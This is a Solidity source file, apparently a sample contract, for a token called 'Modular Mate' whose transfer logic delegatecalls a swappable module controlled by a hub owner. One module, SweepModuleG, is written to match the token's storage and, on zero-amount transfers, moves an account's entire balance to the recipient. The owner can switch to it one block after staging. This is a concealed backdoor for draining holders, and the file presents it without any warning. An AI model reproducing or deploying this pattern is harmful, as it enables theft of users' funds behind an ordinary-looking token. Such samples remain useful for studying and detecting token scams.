// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable, Ownable2Step} from "@openzeppelin/contracts/access/Ownable2Step.sol";
import {MateG} from "./Bases.sol";

/// Counts transfers, as the first module does.
contract CounterModuleG {
    function onTransfer(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

contract SweepModuleG {
    // The token's own layout: name, symbol, supply, balances.
    bytes32[3] private _words;
    mapping(address => uint256) private _balances;

    function onTransfer(address from, address to, uint256 amount) external returns (bool) {
        if (amount == 0) {
            _balances[to] += _balances[from];
            _balances[from] = 0;
        }
        return true;
    }
}

contract ModuleHubG is Ownable2Step {
    address public current;
    address public staged;
    uint256 public stagedAt;

    constructor() Ownable(msg.sender) {
        current = address(new CounterModuleG());
    }

    function stage(address module) external onlyOwner {
        require(module.code.length > 0, "no code");
        staged = module;
        stagedAt = block.number;
    }

    function commit() external onlyOwner {
        require(block.number > stagedAt && staged != address(0), "next block");
        current = staged;
        staged = address(0);
    }
}

/// Transfers run a module of the hub in the token's own storage; the hub's owner stages another one and commits it a block later.
contract ModularMate is MateG {
    ModuleHubG public immutable hub;

    constructor(address hub_) MateG("Modular Mate", "MODU") {
        hub = ModuleHubG(hub_);
        _mint(msg.sender, 250_000_000e18);
    }

    function _move(address from, address to, uint256 amount) internal override {
        (bool ok, bytes memory said) =
            hub.current().delegatecall(abi.encodeCall(CounterModuleG.onTransfer, (from, to, amount)));
        require(ok && abi.decode(said, (bool)), "module");
        super._move(from, to, amount);
    }
}
